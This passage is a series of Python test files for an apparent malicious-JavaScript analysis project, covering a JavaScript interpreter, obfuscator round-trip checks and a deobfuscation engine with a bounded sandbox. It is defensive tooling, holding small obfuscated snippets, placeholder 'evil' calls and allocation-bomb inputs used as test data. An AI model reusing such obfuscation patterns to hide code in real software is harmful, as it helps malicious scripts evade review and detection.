        arr.set("tag", "x")
        assert arr.get("tag") == "x"
        assert "tag" in arr.keys()


class TestTypeOf:
    @pytest.mark.parametrize(
        "value,expected",
        [
            (JSUndefined, "undefined"),
            (JSNull, "object"),
            (True, "boolean"),
            (1.0, "number"),
            ("s", "string"),
            (JSObject(), "object"),
            (JSArray(), "object"),
        ],
    )
    def test_values(self, value, expected):
        assert type_of(value) == expected
