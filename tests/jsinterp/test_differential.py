"""Differential tests: codegen round-trips must preserve *behavior*.

The parser/codegen property tests check tree equivalence; these go one
step further and execute the original and the regenerated source under the
interpreter, comparing observable effects.  Together with the obfuscator
preservation tests this closes the loop: parse→print→parse is not only
shape-stable but semantics-stable.
"""

import pytest

from repro.jsinterp import Interpreter
from repro.jsparser import generate, parse

PROGRAMS = [
    "console.log(1 + 2 * 3 - 4 / 2);",
    "console.log((1 + 2) * (3 - 4));",
    "var x = 5; x += 3; x *= 2; console.log(x);",
    "console.log('a' + 1 + 2, 1 + 2 + 'a');",
    "var o = { a: 1, b: { c: 2 } }; console.log(o.b.c, o['a']);",
    "var a = [1, 2, 3]; a[1] = 9; console.log(a.join('|'));",
    "function f(n) { if (n <= 0) return 'done'; return f(n - 1); } console.log(f(3));",
    "for (var i = 0, s = ''; i < 4; i++) { s += i; } console.log(s);",
    "var n = 0; do { n += 2; } while (n < 7); console.log(n);",
    "console.log(typeof undefinedThing, typeof console);",
    "try { null.x; } catch (e) { console.log('te'); }",
    "var r = true ? (false ? 1 : 2) : 3; console.log(r);",
    "console.log(0.1 + 0.2 > 0.3 - 0.0000001);",
    "console.log([1, 2].concat([3]).length, 'ab'.charCodeAt(1));",
    "switch ('b') { case 'a': console.log('A'); break; case 'b': console.log('B'); break; }",
    "var k = 0; outer: while (k < 5) { k++; if (k === 2) continue outer; if (k === 4) break; console.log(k); }",
    "console.log((function() { return arguments.length; })(1, 2, 3));",
    "var g = 10; function shadow(g) { return g + 1; } console.log(shadow(1), g);",
    "console.log(5 % 3, -5 % 3, 2 ** 8);",
    "console.log('x' in { x: 1 }, 'y' in { x: 1 });",
]


def effects(source):
    return Interpreter(max_steps=200_000).run(source).observable()


@pytest.mark.parametrize("src", PROGRAMS, ids=range(len(PROGRAMS)))
def test_codegen_roundtrip_preserves_behavior(src):
    regenerated = generate(parse(src))
    assert effects(regenerated) == effects(src)


@pytest.mark.parametrize("src", PROGRAMS, ids=range(len(PROGRAMS)))
def test_double_roundtrip_stable(src):
    once = generate(parse(src))
    twice = generate(parse(once))
    assert effects(twice) == effects(src)


def test_generated_corpus_behaviorally_roundtrips():
    """Generated corpus scripts behave identically after a codegen pass."""
    import numpy as np

    from repro.datasets import generate_benign, generate_malicious

    for seed in range(4):
        for gen in (generate_benign, generate_malicious):
            src = gen(np.random.default_rng(seed + 400))
            regenerated = generate(parse(src))
            assert effects(regenerated) == effects(src), f"{gen.__name__} seed {seed}"
