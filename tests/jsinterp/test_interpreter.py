"""Unit tests for the JavaScript interpreter."""


import pytest

from repro.jsinterp import BudgetExceeded, Interpreter, run_program


def logs(source, **kwargs):
    return run_program(source, **kwargs).console


def last_log(source):
    return logs(source)[-1]


class TestExpressions:
    @pytest.mark.parametrize(
        "expr,expected",
        [
            ("1 + 2", "3"),
            ("'a' + 1", "a1"),
            ("1 + '2'", "12"),
            ("7 % 3", "1"),
            ("2 ** 10", "1024"),
            ("10 / 4", "2.5"),
            ("5 & 3", "1"),
            ("5 | 3", "7"),
            ("5 ^ 3", "6"),
            ("~5", "-6"),
            ("1 << 4", "16"),
            ("-16 >> 2", "-4"),
            ("-16 >>> 28", "15"),
            ("1 < 2", "true"),
            ("'b' > 'a'", "true"),
            ("1 == '1'", "true"),
            ("1 === '1'", "false"),
            ("null == undefined", "true"),
            ("null === undefined", "false"),
            ("typeof 'x'", "string"),
            ("typeof 5", "number"),
            ("typeof {}", "object"),
            ("typeof undefined", "undefined"),
            ("!0", "true"),
            ("true ? 'y' : 'n'", "y"),
            ("(1, 2, 3)", "3"),
            ("'' || 'fallback'", "fallback"),
            ("'v' && 'w'", "w"),
        ],
    )
    def test_expression_values(self, expr, expected):
        assert last_log(f"console.log({expr});") == expected

    def test_nan_propagation(self):
        assert last_log("console.log('x' * 2);") == "NaN"
        assert last_log("console.log(NaN === NaN);") == "false"

    def test_division_by_zero(self):
        assert last_log("console.log(1 / 0);") == "Infinity"
        assert last_log("console.log(0 / 0);") == "NaN"

    def test_int32_wraparound(self):
        assert last_log("console.log((0x7fffffff + 1) | 0);") == "-2147483648"


class TestVariablesAndFunctions:
    def test_var_assignment_and_update(self):
        assert last_log("var x = 1; x += 4; x++; console.log(x);") == "6"

    def test_prefix_vs_postfix(self):
        assert logs("var i = 5; console.log(i++); console.log(++i);") == ["5", "7"]

    def test_closures_capture_environment(self):
        src = """
        function counter() { var n = 0; return function() { n = n + 1; return n; }; }
        var c = counter();
        c(); c();
        console.log(c());
        """
        assert last_log(src) == "3"

    def test_hoisting_of_functions(self):
        assert last_log("console.log(later()); function later() { return 'ok'; }") == "ok"

    def test_var_hoisting_reads_undefined(self):
        assert last_log("console.log(typeof x); var x = 1;") == "undefined"

    def test_arguments_object(self):
        assert last_log("function f() { return arguments.length; } console.log(f(1, 2, 3));") == "3"

    def test_rest_parameters(self):
        assert last_log("function f(a, ...rest) { return rest.join('+'); } console.log(f(1, 2, 3));") == "2+3"

    def test_arrow_functions(self):
        assert last_log("var double = x => x * 2; console.log(double(21));") == "42"

    def test_named_function_expression_recursion(self):
        assert last_log("var f = function fac(n) { return n <= 1 ? 1 : n * fac(n - 1); }; console.log(f(6));") == "720"

    def test_this_in_method_call(self):
        assert last_log("var o = { v: 9, m: function() { return this.v; } }; console.log(o.m());") == "9"

    def test_new_constructs_object(self):
        src = "function P(n) { this.n = n; } var p = new P(7); console.log(p.n);"
        assert last_log(src) == "7"


class TestControlFlow:
    def test_while_and_break(self):
        assert last_log("var n = 0; while (true) { n++; if (n === 4) break; } console.log(n);") == "4"

    def test_do_while_runs_once(self):
        assert last_log("var n = 0; do { n++; } while (false); console.log(n);") == "1"

    def test_for_in_object(self):
        assert last_log("var o = {a: 1, b: 2}; var ks = []; for (var k in o) ks.push(k); console.log(ks.join());") == "a,b"

    def test_for_of_array(self):
        assert last_log("var t = 0; for (var v of [1, 2, 3]) t += v; console.log(t);") == "6"

    def test_labeled_continue(self):
        src = """
        var hits = [];
        outer: for (var a = 0; a < 3; a++) {
          for (var b = 0; b < 3; b++) {
            if (b > 0) continue outer;
            hits.push(a + ':' + b);
          }
        }
        console.log(hits.join(' '));
        """
        assert last_log(src) == "0:0 1:0 2:0"

    def test_labeled_break(self):
        src = "outer: for (;;) { for (;;) { break outer; } } console.log('after');"
        assert last_log(src) == "after"

    def test_switch_fallthrough_and_default(self):
        src = "var o = []; switch (9) { case 1: o.push('a'); default: o.push('d'); case 2: o.push('b'); } console.log(o.join());"
        assert last_log(src) == "d,b"

    def test_try_catch_finally_order(self):
        src = "try { throw 'x'; } catch (e) { console.log('c', e); } finally { console.log('f'); }"
        assert logs(src) == ["c x", "f"]

    def test_uncaught_throw_recorded(self):
        recorder = run_program("console.log('pre'); throw 'fatal'; console.log('post');")
        assert recorder.console == ["pre"]
        assert recorder.errors == ["fatal"]

    def test_reference_error_catchable(self):
        assert last_log("try { nope(); } catch (e) { console.log('caught'); }") == "caught"


class TestBuiltins:
    def test_string_methods(self):
        assert last_log("console.log('hello'.toUpperCase().charAt(1));") == "E"
        assert last_log("console.log('a,b,c'.split(',').length);") == "3"
        assert last_log("console.log('abcdef'.substring(4, 2));") == "cd"
        assert last_log("console.log('  pad  '.trim());") == "pad"
        assert last_log("console.log('aXbXc'.replace('X', '-'));") == "a-bXc"

    def test_regex_replace_global(self):
        assert last_log("console.log('a+b+c'.replace(/\\+/g, ''));") == "abc"

    def test_from_char_code_round_trip(self):
        assert last_log("console.log(String.fromCharCode('A'.charCodeAt(0) + 1));") == "B"

    def test_array_methods(self):
        assert last_log("var a = [1]; a.push(2, 3); console.log(a.pop(), a.length);") == "3 2"
        assert last_log("console.log([1, 2, 3].indexOf(3), [1, 2].indexOf(9));") == "2 -1"
        assert last_log("console.log([3, 4].concat([5]).join(''));") == "345"

    def test_math(self):
        assert last_log("console.log(Math.floor(2.9), Math.max(1, 5, 3), Math.abs(-2));") == "2 5 2"

    def test_parse_int(self):
        assert last_log("console.log(parseInt('42px'), parseInt('ff', 16), parseInt('0x10'));") == "42 255 16"

    def test_json_round_trip(self):
        assert last_log("console.log(JSON.parse(JSON.stringify({k: [1, 'two']})).k[1]);") == "two"

    def test_escape_unescape(self):
        assert last_log("console.log(unescape(escape('a b%')));") == "a b%"

    def test_number_to_string_radix(self):
        assert last_log("console.log((255).toString(16), (5).toString(2));") == "ff 101"

    def test_eval_executes(self):
        assert last_log("var r = eval('2 + 3'); console.log(r);") == "5"

    def test_set_timeout_runs_callback(self):
        recorder = run_program("setTimeout(function() { console.log('fired'); }, 50);")
        assert recorder.console == ["fired"]
        assert recorder.timers == [50.0]

    def test_document_write_recorded(self):
        recorder = run_program("document.write('<p>', 'x', '</p>');")
        assert recorder.writes == ["<p>x</p>"]

    def test_cookie_accumulates(self):
        recorder = run_program("document.cookie = 'a=1'; document.cookie = 'b=2; path=/'; console.log(document.cookie);")
        assert recorder.cookies == ["a=1", "b=2; path=/"]
        assert recorder.console == ["a=1; b=2"]


class TestBudget:
    def test_infinite_loop_bounded(self):
        with pytest.raises(BudgetExceeded):
            run_program("while (true) {}", max_steps=5000)

    def test_budget_configurable(self):
        run_program("for (var i = 0; i < 10; i++) {}", max_steps=2000)

    def test_steps_counted(self):
        interp = Interpreter()
        interp.run("var a = 1 + 2;")
        assert interp.steps > 0
