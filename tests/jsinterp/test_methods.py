"""Unit tests for built-in String/Array/Number methods."""

import pytest

from repro.jsinterp import run_program


def out(source):
    return run_program(source).console[-1]


class TestStringMethods:
    @pytest.mark.parametrize(
        "expr,expected",
        [
            ("'hello'.charAt(1)", "e"),
            ("'hello'.charAt(99)", ""),
            ("'hello'.charCodeAt(0)", "104"),
            ("'abcabc'.indexOf('b')", "1"),
            ("'abcabc'.indexOf('b', 2)", "4"),
            ("'abcabc'.indexOf('z')", "-1"),
            ("'abcabc'.lastIndexOf('b')", "4"),
            ("'abcdef'.substring(2)", "cdef"),
            ("'abcdef'.substring(4, 2)", "cd"),
            ("'abcdef'.substr(1, 3)", "bcd"),
            ("'abcdef'.substr(-2)", "ef"),
            ("'abcdef'.slice(-3)", "def"),
            ("'abcdef'.slice(1, -1)", "bcde"),
            ("'a,b,,c'.split(',').length", "4"),
            ("'abc'.split('').join('|')", "a|b|c"),
            ("'x'.split(undefined).length", "1"),
            ("'aaa'.replace('a', 'b')", "baa"),
            ("'MiXeD'.toLowerCase()", "mixed"),
            ("'MiXeD'.toUpperCase()", "MIXED"),
            ("'  x  '.trim()", "x"),
            ("'ab'.concat('cd', 'ef')", "abcdef"),
            ("'abc'.startsWith('ab')", "true"),
            ("'hello'.length", "5"),
            ("'q'.toString()", "q"),
        ],
    )
    def test_string_expressions(self, expr, expected):
        assert out(f"console.log({expr});") == expected


class TestArrayMethods:
    @pytest.mark.parametrize(
        "src,expected",
        [
            ("var a = [1]; console.log(a.push(2, 3), a.length);", "3 3"),
            ("var a = [1, 2]; console.log(a.pop(), a.length);", "2 1"),
            ("var a = [1, 2]; console.log(a.shift(), a[0]);", "1 2"),
            ("var a = [2]; a.unshift(0, 1); console.log(a.join(''));", "012"),
            ("console.log([1, 2, 3].join());", "1,2,3"),
            ("console.log([1, 2, 3].join(' - '));", "1 - 2 - 3"),
            ("console.log([5, 6, 7].indexOf(7));", "2"),
            ("console.log([5, '5'].indexOf('5'));", "1"),
            ("console.log([0, 1, 2, 3].slice(1, 3).join());", "1,2"),
            ("console.log([0, 1, 2, 3].slice(-2).join());", "2,3"),
            ("console.log([1].concat([2, 3], 4).join());", "1,2,3,4"),
            ("var a = [1, 2, 3]; a.reverse(); console.log(a.join());", "3,2,1"),
            ("console.log([1, 2].toString());", "1,2"),
            ("console.log([].pop(), [].shift());", "undefined undefined"),
        ],
    )
    def test_array_programs(self, src, expected):
        assert out(src) == expected


class TestNumberMethods:
    @pytest.mark.parametrize(
        "expr,expected",
        [
            ("(255).toString(16)", "ff"),
            ("(255).toString()", "255"),
            ("(10).toString(2)", "1010"),
            ("(-10).toString(2)", "-1010"),
            ("(0).toString(36)", "0"),
            ("(3.14159).toFixed(2)", "3.14"),
            ("(5).toFixed(0)", "5"),
        ],
    )
    def test_number_expressions(self, expr, expected):
        assert out(f"console.log({expr});") == expected


class TestCallApply:
    def test_call_overrides_this(self):
        assert out("function f(x) { return this.v + x; } console.log(f.call({v: 10}, 5));") == "15"

    def test_apply_spreads_array(self):
        assert out("function add(a, b, c) { return a + b + c; } console.log(add.apply(null, [1, 2, 3]));") == "6"

    def test_apply_without_args(self):
        assert out("function n() { return arguments.length; } console.log(n.apply(null));") == "0"

    def test_bound_builtin_call(self):
        assert out("console.log('abc'.charCodeAt.call('abc', 2));") == "99"
