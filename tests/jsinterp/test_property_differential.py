"""Property-based differential testing: random programs, three pipelines.

For hypothesis-generated programs, the observable behavior must be
identical across (a) direct interpretation, (b) codegen round-trip, and
(c) minification — random-program fuzzing over the whole front end.
"""

import hypothesis.strategies as st
from hypothesis import given, settings

from repro.jsinterp import BudgetExceeded, Interpreter
from repro.jsparser import generate, parse
from repro.obfuscation import Minifier

_names = st.sampled_from(["a", "b", "c", "acc", "tmp"])
_numbers = st.integers(min_value=0, max_value=99).map(str)
_strings = st.sampled_from(['"x"', '"yz"', '""', '"q q"'])
_values = st.one_of(_numbers, _strings, st.sampled_from(["true", "false", "null"]))

_binops = st.sampled_from(["+", "-", "*", "%", "===", "<", ">", "&&", "||", "&", "^"])


def _expr(children):
    binary = st.tuples(children, _binops, children).map(lambda t: f"({t[0]} {t[1]} {t[2]})")
    unary = st.tuples(st.sampled_from(["!", "-", "~"]), children).map(lambda t: f"({t[0]}{t[1]})")
    conditional = st.tuples(children, children, children).map(lambda t: f"({t[0]} ? {t[1]} : {t[2]})")
    return st.one_of(binary, unary, conditional)


expression = st.recursive(st.one_of(_values, _names), _expr, max_leaves=8)

statement = st.one_of(
    st.tuples(_names, expression).map(lambda t: f"var {t[0]} = {t[1]};"),
    st.tuples(_names, expression).map(lambda t: f"{t[0]} = {t[1]};"),
    expression.map(lambda e: f"console.log({e});"),
    st.tuples(expression, _names, expression).map(
        lambda t: f"if ({t[0]}) {{ {t[1]} = {t[2]}; }} else {{ console.log({t[2]}); }}"
    ),
    st.tuples(_names, st.integers(1, 4)).map(
        lambda t: f"for (var i{t[1]} = 0; i{t[1]} < {t[1]}; i{t[1]}++) {{ {t[0]} = {t[0]} + i{t[1]}; }}"
    ),
)

program = st.lists(statement, min_size=1, max_size=6).map(
    lambda body: "var a = 1, b = 2, c = 3, acc = 0, tmp = 0;\n" + "\n".join(body)
)


def observable(source):
    return Interpreter(max_steps=100_000).run(source).observable()


@settings(max_examples=120, deadline=None)
@given(program)
def test_codegen_roundtrip_behaviorally_equivalent(source):
    try:
        baseline = observable(source)
    except BudgetExceeded:
        return  # pathological loop; nothing to compare
    assert observable(generate(parse(source))) == baseline


@settings(max_examples=60, deadline=None)
@given(program, st.integers(0, 50))
def test_minification_behaviorally_equivalent(source, seed):
    try:
        baseline = observable(source)
    except BudgetExceeded:
        return
    minified = Minifier(seed=seed).obfuscate(source)
    assert observable(minified) == baseline


@settings(max_examples=40, deadline=None)
@given(program, st.integers(0, 50))
def test_wild_obfuscation_behaviorally_equivalent(source, seed):
    from repro.obfuscation import WildObfuscator

    try:
        baseline = observable(source)
    except BudgetExceeded:
        return
    obfuscated = WildObfuscator(seed=seed).obfuscate(source)
    assert observable(obfuscated) == baseline
