"""Unit tests for individual normalization transforms."""

import pytest

from repro.deobfuscate import (
    ConstantFold,
    DeadBranches,
    DecodeStrings,
    EvalUnwrap,
    NormalizationReport,
    NormalizeContext,
    SimplifyMembers,
    Unflatten,
    UnpackStringArrays,
)
from repro.jsparser import generate, parse


def run(transform, source):
    program = parse(source)
    ctx = NormalizeContext(NormalizationReport())
    count = transform.apply(program, ctx)
    return count, generate(program), ctx.report


class TestConstantFold:
    def test_string_concat_collapses(self):
        count, out, _ = run(ConstantFold(), 'var u = "ht" + "tp" + "s:";')
        assert count >= 1
        assert '"https:"' in out

    def test_arithmetic_folds(self):
        count, out, _ = run(ConstantFold(), "var n = 2 * 3 + 4;")
        assert count >= 1
        assert "10" in out

    def test_runtime_values_untouched(self):
        count, _, _ = run(ConstantFold(), "var n = x + 1;")
        assert count == 0


class TestDecodeStrings:
    def test_fromcharcode_literal_args(self):
        count, out, _ = run(DecodeStrings(), "var s = String.fromCharCode(104, 105);")
        assert count == 1
        assert '"hi"' in out

    def test_parseint_radix(self):
        count, out, _ = run(DecodeStrings(), 'var n = parseInt("ff", 16);')
        assert count == 1
        assert "255" in out

    def test_atob_base64(self):
        count, out, _ = run(DecodeStrings(), 'var s = atob("aGk=");')
        assert count == 1
        assert '"hi"' in out

    def test_invalid_base64_left_alone(self):
        count, out, _ = run(DecodeStrings(), 'var s = atob("@@not-base64@@");')
        assert count == 0
        assert "atob" in out


class TestSimplifyMembers:
    def test_computed_string_key_becomes_dot(self):
        count, out, _ = run(SimplifyMembers(), 'obj["prop"];')
        assert count == 1
        assert "obj.prop" in out

    def test_reserved_word_key_stays_computed(self):
        count, out, _ = run(SimplifyMembers(), 'obj["class"];')
        assert count == 0
        assert 'obj["class"]' in out


class TestDeadBranches:
    def test_constant_false_branch_removed(self):
        count, out, _ = run(DeadBranches(), 'if (false) { evil(); } else { good(); }')
        assert count == 1
        assert "evil" not in out
        assert "good" in out

    def test_dynamic_condition_kept(self):
        count, out, _ = run(DeadBranches(), "if (x) { a(); } else { b(); }")
        assert count == 0
        assert "a()" in out and "b()" in out


class TestEvalUnwrap:
    def test_eval_of_literal_inlines_statements(self):
        count, out, _ = run(EvalUnwrap(), 'eval("var a = 1; touch(a);");')
        assert count == 1
        assert "eval" not in out
        assert "touch(a)" in out

    def test_eval_of_unparseable_literal_kept(self):
        count, out, _ = run(EvalUnwrap(), 'eval("not (((valid js");')
        assert count == 0
        assert "eval" in out

    def test_eval_of_dynamic_value_kept(self):
        count, out, _ = run(EvalUnwrap(), "eval(payload);")
        assert count == 0
        assert "eval(payload)" in out


class TestUnpackStringArrays:
    SOURCE = """
var _0xa = ["alpha", "beta", "gamma"];
function _0xd(i) { return _0xa[i]; }
use(_0xd(0), _0xd(2));
"""

    def test_decoder_calls_inline_and_cluster_removed(self):
        count, out, _ = run(UnpackStringArrays(), self.SOURCE)
        assert count >= 2
        assert '"alpha"' in out and '"gamma"' in out
        assert "_0xa" not in out and "_0xd" not in out

    def test_aliased_array_left_alone(self):
        aliased = self.SOURCE + "\nvar leak = _0xa;"
        count, out, _ = run(UnpackStringArrays(), aliased)
        assert count == 0
        assert "_0xa" in out

    def test_non_literal_index_left_alone(self):
        dynamic = self.SOURCE + "\nuse(_0xd(window.n));"
        count, out, _ = run(UnpackStringArrays(), dynamic)
        assert count == 0


class TestUnflatten:
    FLAT = """
function run(a) {
  var seq = "2|0|1".split("|"), step = 0;
  while (true) {
    switch (seq[step++]) {
      case "0":
        middle(a);
        continue;
      case "1":
        return last(a);
      case "2":
        first(a);
        continue;
    }
    break;
  }
}
"""

    def test_dispatcher_restored_to_execution_order(self):
        count, out, _ = run(Unflatten(), self.FLAT)
        assert count == 1
        assert "switch" not in out and "while" not in out
        assert out.index("first(a)") < out.index("middle(a)") < out.index("return last(a)")

    def test_dispatch_not_a_permutation_left_alone(self):
        bad = self.FLAT.replace('"2|0|1"', '"2|0|0"')
        count, out, _ = run(Unflatten(), bad)
        assert count == 0
        assert "switch" in out

    def test_leaked_counter_left_alone(self):
        leaked = self.FLAT.replace("function run(a) {", "function run(a) {\n  observe(step);")
        count, _, _ = run(Unflatten(), leaked)
        assert count == 0

    def test_handwritten_dispatch_loop_left_alone(self):
        source = """
var state = getState(), i = 0;
while (true) {
  switch (state[i++]) {
    case "a":
      handle();
      continue;
  }
  break;
}
"""
        count, _, _ = run(Unflatten(), source)
        assert count == 0


@pytest.mark.parametrize(
    "transform",
    [ConstantFold(), DecodeStrings(), SimplifyMembers(), DeadBranches(), EvalUnwrap(),
     UnpackStringArrays(), Unflatten()],
    ids=lambda t: t.name,
)
def test_transforms_are_noops_on_plain_code(transform):
    source = 'function add(a, b) {\n  return a + b;\n}\nconsole.log(add(x, y));\n'
    count, out, report = run(transform, source)
    assert count == 0
    assert not report.interesting
