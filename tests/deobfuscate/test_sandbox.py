"""Safety-envelope tests for bounded forced execution.

The sandbox must make hostile decoders boring: infinite loops hit the
op budget, allocation bombs hit the element/string caps, host access
disqualifies a candidate before it ever runs, and an injected fault
mid-decode degrades the scan instead of aborting it.
"""

import time

import pytest

from repro.deobfuscate import (
    BoundedInterpreter,
    Deobfuscator,
    ForcedExec,
    NormalizationReport,
    NormalizeContext,
    run_bounded,
)
from repro.jsinterp import BudgetExceeded
from repro.jsparser import generate, parse

INFINITE_DECODER = """
function dec(x) {
  var s = "";
  while (true) {
    s = String.fromCharCode(x);
  }
  return s;
}
var s = dec(104);
"""


def fresh_ctx(**kwargs):
    return NormalizeContext(NormalizationReport(), **kwargs)


class TestRunBounded:
    def test_infinite_loop_hits_op_budget(self):
        ctx = fresh_ctx(interp_max_steps=5_000)
        started = time.monotonic()
        outcome, value = run_bounded("while (true) { 1; }", ctx)
        assert outcome == "budget_exceeded"
        assert value is None
        assert time.monotonic() - started < 10.0
        assert ctx.report.forced_exec == {"budget_exceeded": 1}

    def test_deadline_stops_slow_decoder(self):
        ctx = fresh_ctx(interp_max_steps=50_000_000)
        ctx.deadline = time.monotonic() + 0.05
        outcome, _ = run_bounded("while (true) { 1; }", ctx)
        assert outcome == "budget_exceeded"

    def test_allocation_bomb_array_capped(self):
        ctx = fresh_ctx()
        outcome, _ = run_bounded("var a = Array(100000000); a.length;", ctx)
        assert outcome == "budget_exceeded"

    def test_string_doubling_capped(self):
        source = 'var s = "x"; for (var i = 0; i < 60; i++) { s = s + s; } s;'
        ctx = fresh_ctx()
        outcome, _ = run_bounded(source, ctx)
        assert outcome == "budget_exceeded"

    def test_call_budget_exhausts(self):
        ctx = fresh_ctx(max_forced_calls=2)
        assert run_bounded('"a";', ctx)[0] == "ok"
        assert run_bounded('"b";', ctx)[0] == "ok"
        outcome, _ = run_bounded('"c";', ctx)
        assert outcome == "budget_exceeded"
        assert any("call budget" in note for note in ctx.report.notes)

    def test_no_state_leaks_between_runs(self):
        ctx = fresh_ctx()
        assert run_bounded("var poison = 42; poison;", ctx) == ("ok", 42.0)
        outcome, _ = run_bounded("poison;", ctx)
        assert outcome == "error"

    def test_throwing_decoder_is_error_not_crash(self):
        outcome, value = run_bounded('throw "boom";', fresh_ctx())
        assert outcome == "error"
        assert value is None


class TestBoundedInterpreter:
    def test_op_budget_raises(self):
        interp = BoundedInterpreter(max_steps=100)
        with pytest.raises(BudgetExceeded):
            interp.eval_source("while (true) { 1; }")

    def test_string_cap_raises(self):
        interp = BoundedInterpreter(max_steps=10_000_000, max_string_len=1_000)
        with pytest.raises(BudgetExceeded):
            interp.eval_source('var s = "xx"; for (var i = 0; i < 30; i++) { s = s + s; }')

    def test_array_cap_raises(self):
        interp = BoundedInterpreter(max_steps=10_000, max_elements=100)
        with pytest.raises(BudgetExceeded):
            interp.eval_source("Array(101);")

    def test_small_allocations_still_work(self):
        interp = BoundedInterpreter(max_steps=10_000, max_elements=100)
        assert interp.eval_source("Array(3).length;") == 3.0


class TestForcedExecGates:
    def test_host_touching_decoder_never_executes(self):
        source = """
function dec(i) {
  document.write(i);
  return String.fromCharCode(i);
}
var s = dec(104);
"""
        program = parse(source)
        ctx = fresh_ctx()
        assert ForcedExec().apply(program, ctx) == 0
        assert ctx.report.forced_exec == {}
        assert "document.write" in generate(program)

    def test_non_decoder_helper_never_executes(self):
        source = "function add(a, b) { return a + b; }\nvar n = add(1, 2);"
        program = parse(source)
        ctx = fresh_ctx()
        assert ForcedExec().apply(program, ctx) == 0
        assert ctx.report.forced_exec == {}


class TestEngineDegradation:
    def test_infinite_decoder_degrades_to_noop(self):
        engine = Deobfuscator(interp_max_steps=5_000)
        out, report = engine.normalize(INFINITE_DECODER)
        assert out == INFINITE_DECODER
        assert report.forced_exec.get("budget_exceeded", 0) >= 1
        assert any("degraded (budget_exceeded)" in note for note in report.notes)
        assert not report.degraded  # scan-level degradation is reserved for engine failure
        assert report.interesting  # the note must surface in provenance

    def test_chaos_fault_mid_decode_degrades_cleanly(self, monkeypatch):
        monkeypatch.setenv("REPRO_FAULT_INJECT", "1")
        source = '/* @repro-fault:raise@deobfuscate */\nvar u = "h" + "i";\n'
        out, report = Deobfuscator().normalize(source)
        assert out == source
        assert report.degraded
        assert report.degraded_reason
        assert any("original source scanned" in note for note in report.notes)

    def test_fault_marker_inert_without_env(self, monkeypatch):
        monkeypatch.delenv("REPRO_FAULT_INJECT", raising=False)
        source = '/* @repro-fault:raise@deobfuscate */\nvar u = "h" + "i";\n'
        _, report = Deobfuscator().normalize(source)
        assert not report.degraded

    def test_unparseable_source_degrades_to_noop(self):
        source = "function ( {{{"
        out, report = Deobfuscator().normalize(source)
        assert out == source
        assert report.degraded

    def test_oversized_source_skipped(self):
        engine = Deobfuscator(max_source_bytes=64)
        source = 'var s = "' + "A" * 200 + '";'
        out, report = engine.normalize(source)
        assert out == source
        assert report.degraded
