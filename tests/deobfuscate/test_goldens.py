"""Golden-corpus tests: every obfuscated example normalizes to its
paired ``.expected.js`` file, every golden is itself a fixpoint, and
clean corpus files come back byte-identical."""

from pathlib import Path

import pytest

from repro.deobfuscate import Deobfuscator

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
OBFUSCATED = sorted(
    p for p in (EXAMPLES / "obfuscated").glob("*.js") if not p.name.endswith(".expected.js")
)
#: Corpus files that contain no obfuscation at all — the normalizer
#: must return them verbatim.  (sample_0, vendor_2 and vendor_5 carry
#: mild obfuscation-like constructs and legitimately rewrite.)
CLEAN = [
    EXAMPLES / "corpus" / name
    for name in ("sample_1.js", "vendor_0.js", "vendor_1.js", "vendor_3.js", "vendor_4.js")
]


@pytest.fixture(scope="module")
def engine():
    return Deobfuscator()


@pytest.mark.parametrize("path", OBFUSCATED, ids=lambda p: p.stem)
def test_sample_normalizes_to_golden(engine, path):
    golden = path.with_name(path.stem + ".expected.js")
    out, report = engine.normalize(path.read_text(), name=path.name)
    assert report.changed
    assert not report.degraded
    assert report.fixpoint
    assert out.rstrip("\n") == golden.read_text().rstrip("\n")


@pytest.mark.parametrize("path", OBFUSCATED, ids=lambda p: p.stem)
def test_golden_is_fixpoint(engine, path):
    golden = path.with_name(path.stem + ".expected.js")
    out, report = engine.normalize(golden.read_text(), name=golden.name)
    assert not report.changed
    assert not report.notes
    assert out == golden.read_text()


@pytest.mark.parametrize("path", CLEAN, ids=lambda p: p.stem)
def test_clean_corpus_is_byte_identical(engine, path):
    source = path.read_text()
    out, report = engine.normalize(source, name=path.name)
    assert out == source
    assert not report.interesting
    assert report.rewrites == {}


def test_corpus_has_all_four_techniques():
    names = {p.stem for p in OBFUSCATED}
    assert {"obfuscator_io", "fromcharcode_packer", "hex_escape_soup", "eval_wrapped"} <= names


def test_stage_coverage_across_goldens(engine):
    """Between them the goldens must exercise the headline stages."""
    stages = set()
    for path in OBFUSCATED:
        _, report = engine.normalize(path.read_text())
        stages |= set(report.rewrites)
    assert {"fold", "decode", "string_array", "eval_unwrap", "dead_branch", "forced_exec"} <= stages
