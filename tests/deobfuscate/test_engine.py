"""Engine-level behavior: fixpoint convergence, byte-identity on clean
input, report serialization, and metrics accounting."""

from repro.deobfuscate import Deobfuscator, NormalizationReport, normalize_source
from repro.obs.metrics import MetricsRegistry

OBFUSCATED = 'var u = "\\x68\\x74\\x74\\x70" + "\\x73\\x3a";\nfetch(u);\n'
CLEAN = 'function greet(name) {\n  return name;\n}\ngreet(user);\n'


class TestNormalize:
    def test_obfuscated_source_changes_and_converges(self):
        out, report = Deobfuscator().normalize(OBFUSCATED)
        assert '"https:"' in out
        assert report.changed
        assert report.fixpoint
        assert report.iterations >= 2
        assert report.total_rewrites >= 1
        assert report.output_bytes == len(out.encode("utf-8"))

    def test_clean_source_is_byte_identical(self):
        out, report = Deobfuscator().normalize(CLEAN)
        assert out == CLEAN
        assert not report.changed
        assert not report.interesting
        assert report.input_bytes == report.output_bytes

    def test_normalize_is_idempotent(self):
        engine = Deobfuscator()
        once, _ = engine.normalize(OBFUSCATED)
        twice, report = engine.normalize(once)
        assert twice == once
        assert not report.changed

    def test_pass_budget_reported_when_not_converged(self):
        # One pass is not enough for decode-then-fold chains.
        engine = Deobfuscator(max_passes=1)
        _, report = engine.normalize(OBFUSCATED)
        assert not report.fixpoint
        assert any("pass budget" in note or "fixpoint" in note for note in report.notes)

    def test_normalize_source_convenience(self):
        out, report = normalize_source(OBFUSCATED)
        assert '"https:"' in out
        assert report.changed


class TestReportSerialization:
    def test_round_trip(self):
        _, report = Deobfuscator().normalize(OBFUSCATED)
        data = report.to_dict()
        back = NormalizationReport.from_dict(data)
        assert back.to_dict() == data
        assert back.changed == report.changed
        assert back.rewrites == report.rewrites

    def test_empty_fields_omitted(self):
        _, report = Deobfuscator().normalize(OBFUSCATED)
        data = report.to_dict()
        assert "degraded_reason" not in data
        assert "notes" not in data
        assert "forced_exec" not in data

    def test_elapsed_is_measured(self):
        _, report = Deobfuscator().normalize(OBFUSCATED)
        assert report.elapsed_ms >= 0.0


class TestMetrics:
    def test_counters_preregistered_at_zero(self):
